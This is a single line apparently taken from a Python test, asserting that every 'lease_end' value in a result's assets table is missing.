    assert result.assets["lease_end"].isna().all()
